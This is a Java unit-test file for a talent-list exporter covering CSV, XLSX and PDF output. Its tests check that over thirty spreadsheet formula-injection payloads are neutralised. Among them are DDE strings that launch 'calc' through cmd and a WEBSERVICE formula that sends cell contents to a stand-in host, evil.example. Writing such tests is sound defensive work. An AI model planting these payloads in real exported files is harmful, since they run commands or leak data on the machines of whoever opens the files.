package io.taalentio.documents.export;

import static org.assertj.core.api.Assertions.assertThat;

import io.taalentio.core.export.ExportColumn;
import io.taalentio.core.export.ExportFormat;
import io.taalentio.core.export.ListDocuments;
import io.taalentio.core.export.ListDocuments.Cell;
import io.taalentio.core.export.ListDocuments.Head;
import io.taalentio.core.kernel.Formulas;
import io.taalentio.core.kernel.Language;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

class WrittenListsTest {

    private static final LocalDate DAY = LocalDate.of(2026, 11, 25);
    private static final List<ExportColumn> COLUMNS =
            List.of(ExportColumn.CODE, ExportColumn.LAST_NAME, ExportColumn.SCORE, ExportColumn.REGISTERED);

    /** What people have been known to write where a name was asked for. */
    private static final List<String> FORMULAS = List.of(
            "=1+1",
            "=cmd|'/C calc'!A0",
            "=HYPERLINK(\"http://evil.example\",\"click\")",
            "=WEBSERVICE(\"http://evil.example/?\"&A1)",
            "=IMPORTXML(\"http://evil.example\",\"//a\")",
            "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
            "=SUM(A1:A9)*cmd|' /C notepad'!'A1'",
            "+1+1",
            "+cmd|'/C calc'!A0",
            "+221771234567",
            "-1+1",
            "-2+3+cmd|'/C calc'!A0",
            "@SUM(1+1)",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "  =1+1",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\r\n=1+1",
            "\u00A0=1+1",
            "\uFEFF=1+1",
            "\u200B=1+1",
            "\"=1+1",
            "'=1+1",
            "＝1+1",
            "＋1+1",
            "－1+1",
            "＠SUM(1)",
            "Awa;=1+1",
            "Awa,=1+1",
            "Awa\n=1+1",
            "Awa\";=1+1",
            "|calc",
            "%0A=1+1",
            "_x003D_1+1",
            "_x000A_=1+1");

    private static byte[] written(ExportFormat format, Language language, List<List<Cell>> rows) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ListDocuments.Rows document =
                new WrittenLists().begin(format, new Head("Liste des talents", DAY, language, COLUMNS), out)) {
            for (List<Cell> row : rows) {
                document.add(row);
            }
            document.finish();
        }
        return out.toByteArray();
    }

    private static List<Cell> row(String name) {
        return List.of(new Cell.Text("SNF0001DAK"), new Cell.Text(name), new Cell.Amount(85), new Cell.Day(DAY));
    }

    @Test
    void none_of_the_known_payloads_begins_a_formula_in_a_text_table() throws IOException {
        assertThat(FORMULAS).hasSizeGreaterThanOrEqualTo(30);
        for (Language language : Language.values()) {
            String csv = new String(
                    written(
                            ExportFormat.CSV,
                            language,
                            FORMULAS.stream().map(WrittenListsTest::row).toList()),
                    StandardCharsets.UTF_8);
            // Read by programmes that split at any sign, with and without regard for quotation marks.
            for (String separators : List.of(";", ",", "\t", "|", ";,\t|")) {
                for (boolean quotes : List.of(true, false)) {
                    assertThat(cells(csv, separators, quotes))
                            .as("split at %s, quotes %s", separators, quotes)
                            .noneMatch(cell ->
                                    cell.strip().replaceFirst("^\"+", "").matches("(?s)[=+\\-@＝＋－＠].*"));
                }
            }
        }
    }

    private static List<String> cells(String csv, String separators, boolean heedsQuotes) {
        List<String> cells = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (heedsQuotes && c == '"' && (quoted || cell.isEmpty())) {
                quoted = !quoted;
            } else if (!quoted && (separators.indexOf(c) >= 0 || c == '\r' || c == '\n')) {
                cells.add(cell.toString());
                cell.setLength(0);
            } else {
                cell.append(c);
            }
        }
        return cells;
    }

    @Test
    void none_of_the_known_payloads_is_a_formula_in_a_workbook() throws IOException {
        byte[] xlsx = written(
                ExportFormat.XLSX,
                Language.FR,
                FORMULAS.stream().map(WrittenListsTest::row).toList());
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            XSSFSheet sheet = book.getSheetAt(0);
            for (int i = 0; i < FORMULAS.size(); i++) {
                var cell = sheet.getRow(i + 1).getCell(1);
                assertThat(cell.getCellType()).as(FORMULAS.get(i)).isEqualTo(CellType.STRING);
                if (Formulas.suspicious(FORMULAS.get(i))) {
                    assertThat(cell.getCellStyle().getQuotePrefixed())
                            .as(FORMULAS.get(i))
                            .isTrue();
                }
            }
        }
        assertThat(part(xlsx, "xl/worksheets/sheet1.xml")).doesNotContain("<f>").doesNotContain("<f ");
    }

    /** What XML has signs for, or none, comes back as it was written. */
    @Test
    void a_workbook_gives_back_every_text_as_it_was() throws IOException {
        List<String> texts = List.of(
                "Aïssatou N’Diaye",
                "<b>&amp; \"gras\" 'et' plus</b>",
                " blanc devant et derrière ",
                "deux\nlignes\tet un retour\r",
                "_x003D_1+1 _x0041 _X0041_ __x0041_",
                "ⵣ ߒߞߏ 👩🏿‍🎤 \uE000",
                "é".repeat(100_000).substring(0, 32_767));
        byte[] xlsx = written(
                ExportFormat.XLSX,
                Language.FR,
                texts.stream().map(WrittenListsTest::row).toList());
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            XSSFSheet sheet = book.getSheetAt(0);
            for (int i = 0; i < texts.size(); i++) {
                assertThat(sheet.getRow(i + 1).getCell(1).getStringCellValue()).isEqualTo(texts.get(i));
            }
        }
        byte[] odd = written(
                ExportFormat.XLSX,
                Language.FR,
                List.of(row("a\u0000b\u001Fc\uD83Dd\uDE00e\uFFFFf"), row("x".repeat(40_000))));
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(odd))) {
            XSSFSheet sheet = book.getSheetAt(0);
            assertThat(sheet.getRow(1).getCell(1).getStringCellValue()).isEqualTo("a?b?c?d?e?f");
            assertThat(sheet.getRow(2).getCell(1).getStringCellValue()).hasSize(32_767);
        }
    }

    @Test
    void a_workbook_filters_exactly_its_rows_under_a_head_that_stays() throws IOException {
        byte[] xlsx = written(ExportFormat.XLSX, Language.EN, List.of(row("Diop"), row("Sarr"), row("Ba")));
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            XSSFSheet sheet = book.getSheetAt(0);
            assertThat(sheet.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:D4");
            assertThat(book.getAllNames())
                    .allSatisfy(name -> assertThat(name.getRefersToFormula()).endsWith("$A$1:$D$4"));
            assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
            assertThat(sheet.getColumnWidth(1)).isEqualTo(ExportColumn.LAST_NAME.width() * 256);
            assertThat(sheet.getRow(0).getCell(1).getCellStyle().getFont().getBold())
                    .isTrue();
            assertThat(sheet.getRow(1).getCell(3).getCellStyle().getDataFormatString())
                    .isEqualTo("yyyy-mm-dd");
            assertThat(book.getProperties().getCoreProperties().getTitle()).isEqualTo("Liste des talents");
        }
        // What tells programmes what the file is comes first.
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(xlsx))) {
            assertThat(in.getNextEntry().getName()).isEqualTo("[Content_Types].xml");
        }
    }

    @Test
    void a_workbook_given_up_leaves_the_stream_open_and_nothing_on_disk() throws IOException {
        boolean[] closed = {false};
        OutputStream out = new ByteArrayOutputStream() {
            @Override
            public void close() {
                closed[0] = true;
            }
        };
        Set<Path> before = temporary();
        try (ListDocuments.Rows document = new WrittenLists()
                .begin(ExportFormat.XLSX, new Head("Liste des talents", DAY, Language.FR, COLUMNS), out)) {
            for (int i = 0; i < 1_000; i++) {
                document.add(row("Diop " + i));
            }
            assertThat(temporary()).isEqualTo(before);
        }
        assertThat(closed[0]).isFalse();
    }

    /** What POI keeps on disk while it works. */
    private static Set<Path> temporary() throws IOException {
        Path folder = Path.of(System.getProperty("java.io.tmpdir"), "poifiles");
        if (!Files.isDirectory(folder)) {
            return Set.of();
        }
        try (Stream<Path> files = Files.list(folder)) {
            return files.collect(Collectors.toSet());
        }
    }

    private static String part(byte[] zip, String name) throws IOException {
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                if (entry.getName().equals(name)) {
                    return new String(in.readAllBytes(), StandardCharsets.UTF_8);
                }
            }
        }
        throw new AssertionError("no part " + name);
    }

    @Test
    void a_text_table_is_utf8_with_a_byte_order_mark_and_the_separator_of_its_language() throws IOException {
        byte[] french = written(ExportFormat.CSV, Language.FR, List.of(row("N’Diaye; Aïssatou")));
        assertThat(french).startsWith(0xEF, 0xBB, 0xBF);
        assertThat(new String(french, StandardCharsets.UTF_8)).isEqualTo("""
                        \uFEFFCode;Nom;Complétude (%);Inscription\r
                        SNF0001DAK;"N’Diaye; Aïssatou";85;2026-11-25\r
                        """);
        assertThat(new String(written(ExportFormat.CSV, Language.EN, List.of(row("O\"Neil"))), StandardCharsets.UTF_8))
                .isEqualTo("""
                        \uFEFFCode,Last name,Completeness (%),Registered\r
                        SNF0001DAK,"O""Neil",85,2026-11-25\r
                        """);
    }

    @Test
    void a_workbook_keeps_numbers_as_numbers_and_days_as_days() throws IOException {
        byte[] xlsx = written(ExportFormat.XLSX, Language.EN, List.of(row("Diop"), row("Sarr")));
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            XSSFSheet sheet = book.getSheetAt(0);
            assertThat(sheet.getLastRowNum()).isEqualTo(2);
            assertThat(sheet.getRow(0).getCell(1).getStringCellValue()).isEqualTo("Last name");
            assertThat(sheet.getRow(2).getCell(1).getStringCellValue()).isEqualTo("Sarr");
            assertThat(sheet.getRow(1).getCell(2).getNumericCellValue()).isEqualTo(85);
            assertThat(sheet.getRow(1).getCell(3).getLocalDateTimeCellValue().toLocalDate())
                    .isEqualTo(DAY);
        }
    }

    @Test
    void a_printed_list_fills_as_many_landscape_pages_as_it_needs() throws IOException {
        List<List<Cell>> rows = new ArrayList<>();
        for (int i = 0; i < 120; i++) {
            rows.add(row("Nom très long qui ne tient pas sur une seule ligne, numéro " + i));
        }
        try (PDDocument pdf = Loader.loadPDF(written(ExportFormat.PDF, Language.FR, rows))) {
            assertThat(pdf.getNumberOfPages()).isBetween(4, 10);
            pdf.getPages().forEach(page -> assertThat(page.getMediaBox().getWidth())
                    .isGreaterThan(page.getMediaBox().getHeight()));
            String text = new PDFTextStripper().getText(pdf);
            assertThat(text).contains("Liste des talents", "Remarques", "25/11/2026", "numéro 0", "numéro 119");
        }
    }
}
